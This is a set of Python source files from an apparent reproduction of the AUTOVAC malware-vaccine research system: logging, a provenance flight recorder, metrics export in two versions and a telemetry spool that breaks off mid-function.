"""AUTOVAC reproduction — automatic extraction of system resource constraints
and vaccine generation for malware immunization (Xu, Zhang, Gu, Lin —
ICDCS 2013).

Quickstart::

    from repro import AutoVac, deploy, VaccinePackage, SystemEnvironment
    from repro.corpus import build_family

    zeus = build_family("zeus")
    analysis = AutoVac().analyze(zeus)
    package = VaccinePackage(vaccines=analysis.vaccines)

    host = SystemEnvironment()           # a machine to immunize
    deploy(package, host)                # Phase III

Layers (bottom-up): ``repro.vm`` (taint-tracking CPU substrate),
``repro.winenv`` (simulated Windows machine), ``repro.winapi`` (labelled API
layer), ``repro.taint``/``repro.tracing``/``repro.analysis`` (analyses),
``repro.core`` (the three-phase pipeline), ``repro.delivery`` (Phase III),
``repro.corpus`` (synthetic malware + benign programs), ``repro.search``
(exclusiveness oracle).
"""

from .core import (
    AutoVac,
    DeliveryKind,
    IdentifierKind,
    Immunization,
    Mechanism,
    PipelineConfig,
    PopulationResult,
    SampleAnalysis,
    TemporalApiPolicy,
    Vaccine,
    analyze_population,
    measure_bdr,
    run_sample,
    select_candidates,
    synthesize_policy,
    validate_policy,
)
from .delivery import RuleEngine, VaccineDaemon, VaccinePackage, deploy
from .winenv import MachineIdentity, SystemEnvironment

__version__ = "1.0.0"

__all__ = [
    "AutoVac",
    "DeliveryKind",
    "IdentifierKind",
    "Immunization",
    "MachineIdentity",
    "Mechanism",
    "PipelineConfig",
    "PopulationResult",
    "RuleEngine",
    "SampleAnalysis",
    "SystemEnvironment",
    "TemporalApiPolicy",
    "Vaccine",
    "VaccineDaemon",
    "VaccinePackage",
    "__version__",
    "analyze_population",
    "deploy",
    "measure_bdr",
    "run_sample",
    "select_candidates",
    "synthesize_policy",
    "validate_policy",
]
