"""Structured logging on top of stdlib ``logging``.

``get_logger("pipeline")`` returns a :class:`KVLogger` whose methods accept
arbitrary keyword fields rendered as ``key=value`` pairs::

    log = get_logger("pipeline")
    log.info("sample analyzed", sample="zeus", vaccines=3)
    # 2026-08-05T12:00:00 level=info logger=repro.pipeline msg="sample analyzed" sample=zeus vaccines=3

Output is off by default (WARNING threshold, no handler spam): set the
``REPRO_LOG`` environment variable to ``debug``/``info``/``warning``/
``error`` (or ``1`` for info) to enable stderr emission.  The formatter
quotes values containing whitespace so lines stay machine-parseable.
"""

from __future__ import annotations

import logging
import os
import sys
import time
from typing import Optional

ENV_VAR = "REPRO_LOG"
_ROOT = "repro"
_configured = False

_LEVELS = {
    "debug": logging.DEBUG,
    "info": logging.INFO,
    "1": logging.INFO,
    "true": logging.INFO,
    "warning": logging.WARNING,
    "warn": logging.WARNING,
    "error": logging.ERROR,
}


def _quote(value: object) -> str:
    text = str(value)
    if text == "" or any(c in text for c in ' "=\t\n'):
        return '"' + text.replace('"', '\\"') + '"'
    return text


class KeyValueFormatter(logging.Formatter):
    """``ts=… level=… logger=… msg="…" key=value`` lines."""

    def format(self, record: logging.LogRecord) -> str:
        ts = time.strftime("%Y-%m-%dT%H:%M:%S", time.localtime(record.created))
        parts = [
            f"ts={ts}",
            f"level={record.levelname.lower()}",
            f"logger={record.name}",
            f"msg={_quote(record.getMessage())}",
        ]
        fields = getattr(record, "kv_fields", None)
        if fields:
            parts.extend(f"{k}={_quote(v)}" for k, v in fields.items())
        if record.exc_info and record.exc_info[0] is not None:
            parts.append(f"exc={_quote(record.exc_info[0].__name__)}")
        return " ".join(parts)


class KVLogger:
    """Thin wrapper turning keyword arguments into structured fields."""

    def __init__(self, logger: logging.Logger) -> None:
        self._logger = logger

    def _log(self, level: int, msg: str, fields) -> None:
        if self._logger.isEnabledFor(level):
            self._logger.log(level, msg, extra={"kv_fields": fields})

    def debug(self, msg: str, **fields: object) -> None:
        self._log(logging.DEBUG, msg, fields)

    def info(self, msg: str, **fields: object) -> None:
        self._log(logging.INFO, msg, fields)

    def warning(self, msg: str, **fields: object) -> None:
        self._log(logging.WARNING, msg, fields)

    def error(self, msg: str, **fields: object) -> None:
        self._log(logging.ERROR, msg, fields)

    @property
    def level(self) -> int:
        return self._logger.getEffectiveLevel()


def configure(level: Optional[str] = None, stream=None) -> None:
    """(Re)configure the ``repro`` logger tree. Called lazily by
    :func:`get_logger`; call explicitly to override ``REPRO_LOG``."""
    global _configured
    root = logging.getLogger(_ROOT)
    spec = (level if level is not None else os.environ.get(ENV_VAR, "")).strip().lower()
    root.setLevel(_LEVELS.get(spec, logging.WARNING))
    if not root.handlers:
        handler = logging.StreamHandler(stream or sys.stderr)
        handler.setFormatter(KeyValueFormatter())
        root.addHandler(handler)
        root.propagate = False
    _configured = True


def get_logger(name: str) -> KVLogger:
    """Structured logger namespaced under ``repro.``."""
    if not _configured:
        configure()
    return KVLogger(logging.getLogger(f"{_ROOT}.{name}"))
