"""Flight recorder: a bounded journal of analysis-causal events.

``repro.obs`` answers *how fast* (metrics, spans); this module answers
*why* — which API interception seeded the taint that reached which branch,
which mutation produced which trace divergence, why an identifier was
classed algorithm-deterministic.  Every pipeline decision point records a
:class:`FlightEvent` carrying the ids of the events that caused it, so each
sample's journal forms a provenance DAG walkable from a vaccine back to the
originating API call (``repro explain``).

Design constraints (mirroring the rest of ``repro.obs``):

* one process-global :class:`FlightRecorder` lives at ``obs.flight``;
  recording is a single ``enabled`` check plus a deque append — the
  interpreter fast path never touches it, and emission sites on warmer
  paths (the API dispatcher, tainted predicates) guard on
  ``flight.enabled`` before building attrs;
* the buffer is a ring (:data:`MAX_FLIGHT_EVENTS`): a runaway sample drops
  the *oldest* events and counts them in ``recorder.dropped`` instead of
  growing without bound;
* cross-layer correlation goes through ``remember(key, id)`` /
  ``recall(key)`` with **first-wins** semantics: trace event ids restart
  per run (the phase-1 run, the snapshot-capture run, and every resumed
  mutated run each count from their own origin), and first-wins makes the
  phase-1 timeline canonical — the capture run reproduces it identically
  and resumed runs re-execute the interception call with the same rewound
  event id, so the first binding is the right one;
* worker journals ship inside the versioned ``SampleAnalysis`` codec and
  are re-filed into the parent recorder via :meth:`FlightRecorder.adopt`
  (id-remapped), the same pattern ``Tracer.adopt`` uses for spans.
"""

from __future__ import annotations

from collections import deque
from typing import Dict, Iterable, List, Optional, Tuple

#: Ring-buffer capacity of the process-global recorder.  Sized for a full
#: survey shard (a family sample journals a few dozen events; population
#: runs re-begin the window per sample, so the ring only has to hold the
#: current sample plus adopted history).
MAX_FLIGHT_EVENTS = 16_384


class FlightEvent:
    """One causal event: what happened, what caused it, and details."""

    __slots__ = ("event_id", "kind", "causes", "attrs")

    def __init__(
        self,
        event_id: int,
        kind: str,
        causes: Tuple[int, ...] = (),
        attrs: Optional[Dict[str, object]] = None,
    ) -> None:
        self.event_id = event_id
        self.kind = kind
        self.causes = causes
        self.attrs: Dict[str, object] = attrs if attrs is not None else {}

    def to_dict(self) -> dict:
        out: Dict[str, object] = {"id": self.event_id, "kind": self.kind}
        if self.causes:
            out["causes"] = list(self.causes)
        if self.attrs:
            out["attrs"] = dict(self.attrs)
        return out

    @staticmethod
    def from_dict(data: dict) -> "FlightEvent":
        return FlightEvent(
            event_id=int(data["id"]),
            kind=str(data["kind"]),
            causes=tuple(int(c) for c in data.get("causes", ())),
            attrs=dict(data.get("attrs", {})),
        )

    def __repr__(self) -> str:  # pragma: no cover
        return f"FlightEvent(e{self.event_id}, {self.kind!r}, causes={self.causes})"


class Journal:
    """One sample's slice of the flight log: an id-indexed provenance DAG."""

    __slots__ = ("sample", "events", "_by_id")

    def __init__(self, sample: str, events: List[FlightEvent]) -> None:
        self.sample = sample
        self.events = events
        self._by_id: Optional[Dict[int, FlightEvent]] = None

    def __len__(self) -> int:
        return len(self.events)

    def get(self, event_id: int) -> Optional[FlightEvent]:
        if self._by_id is None:
            self._by_id = {e.event_id: e for e in self.events}
        return self._by_id.get(event_id)

    def find(self, kind: Optional[str] = None, **attrs: object) -> List[FlightEvent]:
        """Events matching ``kind`` (exact) and every given attr (equality)."""
        out = []
        for event in self.events:
            if kind is not None and event.kind != kind:
                continue
            if all(event.attrs.get(k) == v for k, v in attrs.items()):
                out.append(event)
        return out

    def ancestors(self, event_id: int) -> List[int]:
        """Every event id reachable backwards from ``event_id`` (inclusive),
        in discovery order — the full evidence set behind one decision."""
        seen: List[int] = []
        seen_set = set()
        stack = [event_id]
        while stack:
            current = stack.pop(0)
            if current in seen_set:
                continue
            seen_set.add(current)
            event = self.get(current)
            if event is None:
                continue
            seen.append(current)
            stack.extend(event.causes)
        return seen

    def to_dict(self) -> dict:
        return {"sample": self.sample, "events": [e.to_dict() for e in self.events]}

    @staticmethod
    def from_dict(data: dict) -> "Journal":
        return Journal(
            sample=str(data.get("sample", "")),
            events=[FlightEvent.from_dict(e) for e in data.get("events", ())],
        )


class FlightRecorder:
    """Process-global bounded event journal. Lives at ``obs.flight``."""

    def __init__(self, capacity: int = MAX_FLIGHT_EVENTS) -> None:
        self.enabled = True
        self.dropped = 0
        self._events: deque = deque(maxlen=capacity)
        self._next_id = 0
        #: Cross-layer correlation map; see module docstring (first-wins).
        self._corr: Dict[tuple, int] = {}
        self._sample: Optional[str] = None

    # -- recording ---------------------------------------------------------

    def record(
        self, kind: str, causes: Iterable[Optional[int]] = (), **attrs: object
    ) -> Optional[int]:
        """Journal one event; returns its id, or None while disabled.

        ``causes`` may contain None entries (failed ``recall``) — they are
        silently dropped so call sites can cite optional evidence inline.
        """
        if not self.enabled:
            return None
        return self._append(kind, tuple(c for c in causes if c is not None), attrs)

    def _append(self, kind: str, causes: Tuple[int, ...], attrs: Dict[str, object]) -> int:
        event_id = self._next_id
        self._next_id += 1
        if len(self._events) == self._events.maxlen:
            self.dropped += 1
        self._events.append(FlightEvent(event_id, kind, causes, attrs))
        return event_id

    def remember(self, key: tuple, event_id: Optional[int]) -> None:
        """Bind a correlation key to an event id — first binding wins."""
        if self.enabled and event_id is not None:
            self._corr.setdefault(key, event_id)

    def recall(self, key: tuple) -> Optional[int]:
        return self._corr.get(key)

    # -- per-sample windows ------------------------------------------------

    def begin_sample(self, sample: str) -> Optional[int]:
        """Open a journal window; returns the window token for
        :meth:`end_sample` (None while disabled).  Clears the correlation
        map: keys never leak across samples."""
        if not self.enabled:
            return None
        self._corr.clear()
        self._sample = sample
        return self._next_id

    def end_sample(self, token: Optional[int]) -> Optional[Journal]:
        """Close the window opened at ``token``; returns that window's
        :class:`Journal` (None when disabled or the recorder was toggled
        off mid-window).

        Journal ids are rebased to start at 0: the same sample journals
        identically no matter where in a population run (or in which worker
        process) it was analyzed, so encoded payloads — and the cache
        entries built from them — are deterministic."""
        if token is None or not self.enabled:
            self._sample = None
            return None
        window: List[FlightEvent] = []
        for event in reversed(self._events):
            if event.event_id < token:
                break
            window.append(event)
        window.reverse()
        events = [
            FlightEvent(
                event_id=e.event_id - token,
                kind=e.kind,
                causes=tuple(c - token for c in e.causes if c >= token),
                attrs=dict(e.attrs),
            )
            for e in window
        ]
        journal = Journal(self._sample or "", events)
        self._sample = None
        return journal

    # -- merging -----------------------------------------------------------

    def adopt(self, journal: Optional[Journal]) -> None:
        """Re-file a journal's events (e.g. decoded from a worker process)
        under fresh local ids, remapping intra-journal cause edges.  Causes
        pointing outside the journal are dropped — they referenced worker
        state that did not ship."""
        if journal is None or not self.enabled:
            return
        mapping: Dict[int, int] = {}
        for event in journal.events:
            # _append, not record(**attrs): attr keys are free-form and may
            # shadow record()'s own parameter names (e.g. "causes").
            mapping[event.event_id] = self._append(
                event.kind,
                tuple(mapping[c] for c in event.causes if c in mapping),
                dict(event.attrs),
            )

    # -- housekeeping ------------------------------------------------------

    def events(self) -> List[FlightEvent]:
        return list(self._events)

    def reset(self) -> None:
        self._events.clear()
        self._corr.clear()
        self._next_id = 0
        self.dropped = 0
        self._sample = None


# ---------------------------------------------------------------------------
# rendering (the `repro explain` narrative)
# ---------------------------------------------------------------------------


def summarize_event(event: FlightEvent) -> str:
    """One-line human phrase for an event (kind-specific)."""
    a = event.attrs
    kind = event.kind
    if kind == "api.taint_seed":
        if a.get("resource"):
            what = f"checked {a.get('resource')} {a.get('identifier')!r}"
        else:
            what = "returned environment data"
        outcome = "succeeded" if a.get("success") else "failed"
        return f"API {a.get('api')} {what}, {outcome}, and seeded taint"
    if kind == "api.call":
        outcome = "succeeded" if a.get("success") else "failed"
        return f"API {a.get('api')} touched {a.get('resource')} {a.get('identifier')!r} and {outcome}"
    if kind == "api.intercept":
        return f"API {a.get('api')} intercepted -> {a.get('verdict')} (identifier {a.get('identifier')!r})"
    if kind == "predicate.tainted":
        return f"tainted branch predicate at pc=0x{a.get('pc', 0):x}: {a.get('instr')}"
    if kind == "candidate":
        flow = "influences control flow" if a.get("influences_control_flow") else "no control-flow influence"
        return f"candidate {a.get('resource')} {a.get('identifier')!r} ({flow})"
    if kind == "verdict.exclusiveness":
        word = "exclusive" if a.get("exclusive") else "not exclusive"
        return f"exclusiveness: {word} — {a.get('reason')}"
    if kind == "snapshot.capture":
        return f"guest snapshot captured at {a.get('api')} (identifier {a.get('identifier')!r})"
    if kind == "snapshot.resume":
        return f"mutated run resumed from snapshot ({a.get('mechanism')})"
    if kind == "mutation":
        how = "resumed from snapshot" if a.get("resumed") else "full rerun"
        return f"mutated {a.get('identifier')!r} via {a.get('mechanism')} ({how})"
    if kind == "align.divergence":
        text = (
            f"trace diverged: {a.get('lost')} calls lost, {a.get('gained')} gained"
        )
        if a.get("first_lost"):
            text += f" (first lost: {a.get('first_lost')})"
        return text
    if kind == "verdict.impact":
        return (
            f"impact verdict for {a.get('identifier')!r}: {a.get('immunization')} "
            f"(effects: {a.get('effects')}, {a.get('hits', 0)} interceptions)"
        )
    if kind == "slice.walk":
        return (
            f"backward slice: {a.get('records')} contributing instructions, "
            f"env sources {a.get('env_sources')}"
        )
    if kind == "slice.extract":
        reexec = "forced re-execution" if a.get("requires_reexecution") else "straight-line replay"
        return f"generation slice extracted: {a.get('steps')} steps, {reexec}"
    if kind == "verdict.determinism":
        return f"identifier {a.get('identifier')!r} classed {a.get('identifier_kind')}"
    if kind == "vaccine":
        return (
            f"vaccine: {a.get('resource')} {a.get('identifier')!r} "
            f"-> {a.get('immunization')} via {a.get('mechanism')}"
        )
    if kind == "vaccine.rejected":
        return f"candidate {a.get('identifier')!r} rejected: {a.get('reason')}"
    if kind == "policy.synthesized":
        return (
            f"temporal policy for {a.get('sample')!r}: boundary at "
            f"{a.get('boundary_api')} (seq {a.get('boundary_seq')}), "
            f"{a.get('deny')} deny rule(s), {a.get('subtracted')} subtracted"
        )
    if kind == "policy.violation":
        return (
            f"policy denied {a.get('api')} on {a.get('resource')} "
            f"{a.get('identifier')!r} ({a.get('operation')})"
        )
    if kind == "sample.failed":
        return (
            f"sample {a.get('sample')!r} quarantined: {a.get('failure_kind')} "
            f"({a.get('error')}) after {a.get('attempts')} attempt(s)"
        )
    detail = ", ".join(f"{k}={v}" for k, v in sorted(a.items()))
    return f"{kind}" + (f" ({detail})" if detail else "")


def render_chain(
    journal: Journal,
    root_id: int,
    max_depth: int = 12,
    max_lines: Optional[int] = None,
) -> str:
    """Indented causal narrative: the event, then (recursively) what caused
    it.  Shared ancestors render once; later references become a
    ``(see e<id> above)`` stub so diamonds in the DAG stay readable."""
    lines: List[str] = []
    rendered = set()

    def walk(event_id: int, depth: int) -> None:
        if max_lines is not None and len(lines) >= max_lines:
            return
        indent = "  " * depth
        event = journal.get(event_id)
        if event is None:
            lines.append(f"{indent}[e{event_id}] (event not in journal)")
            return
        if event_id in rendered:
            lines.append(f"{indent}[e{event_id}] (see above)")
            return
        rendered.add(event_id)
        lines.append(f"{indent}[e{event_id}] {summarize_event(event)}")
        if depth + 1 > max_depth:
            if event.causes:
                lines.append(f"{indent}  ... ({len(event.causes)} causes beyond depth limit)")
            return
        for cause in event.causes:
            walk(cause, depth + 1)

    walk(root_id, 0)
    if max_lines is not None and len(lines) >= max_lines:
        lines = lines[:max_lines]
        lines.append("  ... (truncated)")
    return "\n".join(lines)


__all__ = [
    "MAX_FLIGHT_EVENTS",
    "FlightEvent",
    "FlightRecorder",
    "Journal",
    "render_chain",
    "summarize_event",
]
