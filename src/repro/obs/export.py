"""Combined metrics + span snapshot: JSON file format and text renderers.

One captured file round-trips through the CLI::

    python -m repro analyze conficker --metrics m.json
    python -m repro stats m.json            # pretty text
    python -m repro stats m.json --prom     # Prometheus exposition text
"""

from __future__ import annotations

import json
import time
from pathlib import Path
from typing import Dict, List, Optional

from .metrics import MetricsRegistry, prometheus_text
from .prof import Profiler, render_table
from .tracer import Tracer, render_flame

SNAPSHOT_VERSION = 1


def snapshot(
    registry: MetricsRegistry, tracer: Tracer, profiler: Optional[Profiler] = None
) -> Dict[str, object]:
    return {
        "version": SNAPSHOT_VERSION,
        "generated_unix": time.time(),
        "metrics": registry.snapshot(),
        "spans": tracer.to_dicts(),
        "profile": profiler.snapshot() if profiler is not None else {},
    }


def write_json(
    path,
    registry: MetricsRegistry,
    tracer: Tracer,
    profiler: Optional[Profiler] = None,
) -> Dict[str, object]:
    data = snapshot(registry, tracer, profiler)
    Path(path).write_text(json.dumps(data, indent=2, sort_keys=True))
    return data


def load(path) -> Dict[str, object]:
    """Parse a snapshot file; raises :class:`ValueError` naming the file
    and the reason on truncated/corrupt JSON (``SystemExit``-friendly for
    ``repro stats``) instead of leaking a bare ``json.JSONDecodeError``."""
    text = Path(path).read_text()
    try:
        data = json.loads(text)
    except json.JSONDecodeError as exc:
        reason = "file is empty" if not text.strip() else f"{exc.msg} at line {exc.lineno}"
        raise ValueError(
            f"{path}: corrupt or truncated metrics snapshot ({reason})"
        ) from None
    if not isinstance(data, dict) or "metrics" not in data:
        raise ValueError(f"{path}: not a repro metrics snapshot")
    return data


# ----------------------------------------------------------------------
# text rendering (the `stats` subcommand)
# ----------------------------------------------------------------------


def render_stats(
    data: Dict[str, object], max_depth: int = 6, top: Optional[int] = None
) -> str:
    """Human-readable summary of a snapshot: counters/gauges table, a VM
    execution-tier digest, histogram summaries, hot-path profile table (when
    the snapshot carries one), then the aggregated span flame tree."""
    metrics: Dict[str, Dict] = data.get("metrics", {})  # type: ignore[assignment]
    lines: List[str] = []

    scalars: List[str] = []
    histograms: List[str] = []
    for name in sorted(metrics):
        family = metrics[name]
        for series in family["series"]:
            label_text = _labels_text(series["labels"])
            if family["kind"] == "histogram":
                histograms.append(
                    f"  {name}{label_text}  count={series['count']} "
                    f"sum={_fmt_s(series['sum'])} mean={_fmt_s(_mean(series))} "
                    f"max={_fmt_s(series['max'] or 0.0)}"
                )
            else:
                value = series["value"]
                scalars.append(f"  {name + label_text:<56s} {value:>12g}")

    if scalars:
        lines.append("== counters / gauges ==")
        lines.extend(scalars)
    tiers = _render_vm_tiers(metrics)
    if tiers:
        lines.append("")
        lines.append("== vm execution tiers ==")
        lines.extend(tiers)
    if histograms:
        lines.append("")
        lines.append("== histograms ==")
        lines.extend(histograms)

    profile = data.get("profile") or {}
    if profile:
        lines.append("")
        lines.append("== hot paths ==")
        lines.append(render_table(profile, top=top or 20).rstrip("\n"))

    spans = data.get("spans", [])
    if spans:
        lines.append("")
        lines.append("== spans ==")
        lines.append(render_flame(spans, max_depth=max_depth, top=top).rstrip("\n"))
    return "\n".join(lines) + "\n"


def _metric_total(metrics: Dict[str, Dict], name: str) -> float:
    family = metrics.get(name)
    if not family:
        return 0.0
    return sum(series.get("value", 0.0) for series in family.get("series", []))


def _render_vm_tiers(metrics: Dict[str, Dict]) -> List[str]:
    """Digest of the three-tier interpreter counters (PR 8): how many steps
    avoided the slow path, and what the superblock compiler did."""
    instructions = _metric_total(metrics, "vm.instructions")
    if not instructions:
        return []
    fast = _metric_total(metrics, "vm.fast_steps")
    share = 100.0 * fast / instructions
    lines = [
        f"  instructions {instructions:>14,.0f}",
        f"  fast+superblock steps {fast:>5,.0f} ({share:.1f}% off the slow path)",
    ]
    compiled = _metric_total(metrics, "vm.superblocks.compiled")
    entries = _metric_total(metrics, "vm.superblocks.entries")
    guard_exits = _metric_total(metrics, "vm.superblocks.guard_exits")
    if compiled or entries or guard_exits:
        lines.append(
            f"  superblocks: {compiled:,.0f} compiled, {entries:,.0f} entries, "
            f"{guard_exits:,.0f} guard exits"
        )
    return lines


#: Quantiles emitted for span-derived phase latencies (summary convention).
SPAN_QUANTILES = (0.5, 0.9, 0.99)


def _span_durations(spans: List[dict]) -> Dict[str, List[float]]:
    """Aggregate wall seconds per span name across the whole forest."""
    durations: Dict[str, List[float]] = {}
    stack = list(spans)
    while stack:
        span = stack.pop()
        name = span.get("name")
        seconds = span.get("duration")
        if name and seconds is not None:
            durations.setdefault(name, []).append(float(seconds))
        stack.extend(span.get("children", []))
    return durations


def _quantile(sorted_values: List[float], q: float) -> float:
    """Nearest-rank quantile over raw durations (exact, not bucketed)."""
    if not sorted_values:
        return 0.0
    rank = max(0, min(len(sorted_values) - 1, int(round(q * (len(sorted_values) - 1)))))
    return sorted_values[rank]


def render_prometheus(data: Dict[str, object]) -> str:
    """Prometheus exposition text: the metric families, then summary-style
    quantile lines for span-derived phase latencies (``repro_span_seconds``)
    so phase timing is scrapable without shipping raw span trees."""
    text = prometheus_text(data.get("metrics", {}))  # type: ignore[arg-type]
    durations = _span_durations(data.get("spans", []))  # type: ignore[arg-type]
    if not durations:
        return text
    lines = [text.rstrip("\n")] if text.strip() else []
    lines.append("# HELP repro_span_seconds wall seconds per span name (from the snapshot's span forest)")
    lines.append("# TYPE repro_span_seconds summary")
    for name in sorted(durations):
        values = sorted(durations[name])
        for q in SPAN_QUANTILES:
            lines.append(
                f'repro_span_seconds{{span="{name}",quantile="{q}"}} '
                f"{_quantile(values, q):.9g}"
            )
        lines.append(f'repro_span_seconds_sum{{span="{name}"}} {sum(values):.9g}')
        lines.append(f'repro_span_seconds_count{{span="{name}"}} {len(values)}')
    return "\n".join(lines) + "\n"


def _labels_text(labels: Dict[str, str]) -> str:
    if not labels:
        return ""
    return "{" + ",".join(f"{k}={v}" for k, v in sorted(labels.items())) + "}"


def _mean(series: Dict[str, object]) -> float:
    count = series.get("count") or 0
    return (series.get("sum") or 0.0) / count if count else 0.0  # type: ignore[operator]


def _fmt_s(seconds: Optional[float]) -> str:
    seconds = seconds or 0.0
    if seconds >= 1.0:
        return f"{seconds:.3f}s"
    if seconds >= 0.001:
        return f"{seconds * 1000:.2f}ms"
    return f"{seconds * 1_000_000:.1f}us"
