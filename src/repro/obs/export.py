"""Combined metrics + span snapshot: JSON file format and text renderers.

One captured file round-trips through the CLI::

    python -m repro analyze conficker --metrics m.json
    python -m repro stats m.json            # pretty text
    python -m repro stats m.json --prom     # Prometheus exposition text
"""

from __future__ import annotations

import json
import time
from pathlib import Path
from typing import Dict, List, Optional

from .metrics import MetricsRegistry, prometheus_text
from .tracer import Tracer, render_flame

SNAPSHOT_VERSION = 1


def snapshot(registry: MetricsRegistry, tracer: Tracer) -> Dict[str, object]:
    return {
        "version": SNAPSHOT_VERSION,
        "generated_unix": time.time(),
        "metrics": registry.snapshot(),
        "spans": tracer.to_dicts(),
    }


def write_json(path, registry: MetricsRegistry, tracer: Tracer) -> Dict[str, object]:
    data = snapshot(registry, tracer)
    Path(path).write_text(json.dumps(data, indent=2, sort_keys=True))
    return data


def load(path) -> Dict[str, object]:
    """Parse a snapshot file; raises :class:`ValueError` naming the file
    and the reason on truncated/corrupt JSON (``SystemExit``-friendly for
    ``repro stats``) instead of leaking a bare ``json.JSONDecodeError``."""
    text = Path(path).read_text()
    try:
        data = json.loads(text)
    except json.JSONDecodeError as exc:
        reason = "file is empty" if not text.strip() else f"{exc.msg} at line {exc.lineno}"
        raise ValueError(
            f"{path}: corrupt or truncated metrics snapshot ({reason})"
        ) from None
    if not isinstance(data, dict) or "metrics" not in data:
        raise ValueError(f"{path}: not a repro metrics snapshot")
    return data


# ----------------------------------------------------------------------
# text rendering (the `stats` subcommand)
# ----------------------------------------------------------------------


def render_stats(
    data: Dict[str, object], max_depth: int = 6, top: Optional[int] = None
) -> str:
    """Human-readable summary of a snapshot: counters/gauges table,
    histogram summaries, then the aggregated span flame tree."""
    metrics: Dict[str, Dict] = data.get("metrics", {})  # type: ignore[assignment]
    lines: List[str] = []

    scalars: List[str] = []
    histograms: List[str] = []
    for name in sorted(metrics):
        family = metrics[name]
        for series in family["series"]:
            label_text = _labels_text(series["labels"])
            if family["kind"] == "histogram":
                histograms.append(
                    f"  {name}{label_text}  count={series['count']} "
                    f"sum={_fmt_s(series['sum'])} mean={_fmt_s(_mean(series))} "
                    f"max={_fmt_s(series['max'] or 0.0)}"
                )
            else:
                value = series["value"]
                scalars.append(f"  {name + label_text:<56s} {value:>12g}")

    if scalars:
        lines.append("== counters / gauges ==")
        lines.extend(scalars)
    if histograms:
        lines.append("")
        lines.append("== histograms ==")
        lines.extend(histograms)

    spans = data.get("spans", [])
    if spans:
        lines.append("")
        lines.append("== spans ==")
        lines.append(render_flame(spans, max_depth=max_depth, top=top).rstrip("\n"))
    return "\n".join(lines) + "\n"


def render_prometheus(data: Dict[str, object]) -> str:
    return prometheus_text(data.get("metrics", {}))  # type: ignore[arg-type]


def _labels_text(labels: Dict[str, str]) -> str:
    if not labels:
        return ""
    return "{" + ",".join(f"{k}={v}" for k, v in sorted(labels.items())) + "}"


def _mean(series: Dict[str, object]) -> float:
    count = series.get("count") or 0
    return (series.get("sum") or 0.0) / count if count else 0.0  # type: ignore[operator]


def _fmt_s(seconds: Optional[float]) -> str:
    seconds = seconds or 0.0
    if seconds >= 1.0:
        return f"{seconds:.3f}s"
    if seconds >= 0.001:
        return f"{seconds * 1000:.2f}ms"
    return f"{seconds * 1_000_000:.1f}us"
