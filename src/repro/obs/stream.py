"""Cross-process run telemetry: append-only JSONL event spools.

The population executor runs samples in worker processes; nothing those
workers print is visible live, and the parent only learns outcomes when a
future resolves.  This module is the *emission* half of the run-telemetry
layer (the folding half is :mod:`repro.obs.ledger`):

* every process that takes part in a run — the executor parent and each
  pool worker — installs a :class:`SpoolEmitter` pointed at the run
  directory's ``spool/``;
* the emitter appends one JSON object per line to its own
  ``events-<pid>.jsonl`` file (one writer per file, no locking needed) and
  flushes per event, so a worker that is later OOM-killed leaves at most
  one partial trailing line behind;
* the parent's collector tails the spool files and folds the events into
  the persistent run ledger.

Event grammar (see DESIGN.md §11): ``run.started`` / ``run.finished``
bracket the run; per sample the lifecycle is ``cache.hit`` *or*
``sample.started`` → ``sample.phase``\\* → optionally ``sample.timeout`` /
``sample.retry`` → exactly one terminal ``sample.completed`` or
``sample.failed``.  Terminal events are emitted only by the parent (the
single authority on retries and quarantine), so they match
``PopulationResult`` even when a worker died mid-sample.

Cheap-hook contract: with no emitter installed (the default — telemetry is
opt-in via ``--run-dir``), :func:`emit` is one module-global load and an
``is None`` test; the pipeline hooks stay within the same ≤5% budget the
flight recorder is held to (``bench_perf_overhead.py``).
"""

from __future__ import annotations

import json
import os
import time
from pathlib import Path
from typing import Dict, Optional, Union

#: Spool file pattern inside a run directory's ``spool/``; one file per
#: emitting process.
SPOOL_GLOB = "events-*.jsonl"

#: Every event kind the pipeline emits, for reference and validation.
EVENT_KINDS = (
    "run.started",
    "run.finished",
    "cache.hit",
    "sample.started",
    "sample.phase",
    "sample.timeout",
    "sample.retry",
    "sample.completed",
    "sample.failed",
)

#: Terminal per-sample kinds — exactly one per sample per run.
TERMINAL_KINDS = ("sample.completed", "sample.failed")


class SpoolEmitter:
    """Appends one JSON event per line to this process's spool file.

    ``context`` attrs (sample index, attempt) are stamped onto every event
    until changed — the worker sets them once per task instead of threading
    them through every pipeline hook.
    """

    __slots__ = ("spool_dir", "pid", "path", "_fh", "_seq", "_context")

    def __init__(self, spool_dir: Union[str, os.PathLike]) -> None:
        self.spool_dir = Path(spool_dir)
        self.spool_dir.mkdir(parents=True, exist_ok=True)
        self.pid = os.getpid()
        self.path = self.spool_dir / f"events-{self.pid}.jsonl"
        self._fh = open(self.path, "a", encoding="utf-8")
        self._seq = 0
        self._context: Dict[str, object] = {}

    def emit(self, kind: str, **attrs: object) -> None:
        if os.getpid() != self.pid:
            # A forked worker inherited the parent's emitter: reopen as our
            # own spool file so two processes never share one writer.
            self.__init__(self.spool_dir)
        event: Dict[str, object] = {
            "t": time.time(),
            "pid": self.pid,
            "seq": self._seq,
            "kind": kind,
        }
        if self._context:
            event.update(self._context)
        event.update(attrs)
        self._seq += 1
        try:
            # One write + flush per event: crash tolerance beats batching
            # here (a dead worker must not take its buffered events along).
            self._fh.write(json.dumps(event, default=repr) + "\n")
            self._fh.flush()
        except (OSError, ValueError):
            # Telemetry must never kill an analysis (full disk, closed fd).
            pass

    def set_context(self, **attrs: object) -> None:
        self._context.update(attrs)

    def clear_context(self) -> None:
        self._context.clear()

    def close(self) -> None:
        try:
            self._fh.close()
        except OSError:  # pragma: no cover - best effort by contract
            pass


#: The process-global emitter; ``None`` = telemetry off (the default).
_emitter: Optional[SpoolEmitter] = None


def install(spool_dir: Union[str, os.PathLike]) -> SpoolEmitter:
    """Point this process's telemetry at ``spool_dir`` (idempotent for the
    same directory; replaces any previous emitter otherwise)."""
    global _emitter
    spool_dir = Path(spool_dir)
    if (
        _emitter is not None
        and _emitter.pid == os.getpid()
        and _emitter.spool_dir == spool_dir
    ):
        return _emitter
    if _emitter is not None and _emitter.pid == os.getpid():
        _emitter.close()
    _emitter = SpoolEmitter(spool_dir)
    return _emitter


def uninstall() -> None:
    """Turn telemetry off for this process (closes the spool file)."""
    global _emitter
    if _emitter is not None and _emitter.pid == os.getpid():
        _emitter.close()
    _emitter = None


def enabled() -> bool:
    return _emitter is not None


def emit(kind: str, **attrs: object) -> None:
    """Journal one event, or do (almost) nothing when telemetry is off."""
    if _emitter is not None:
        _emitter.emit(kind, **attrs)


def set_context(**attrs: object) -> None:
    if _emitter is not None:
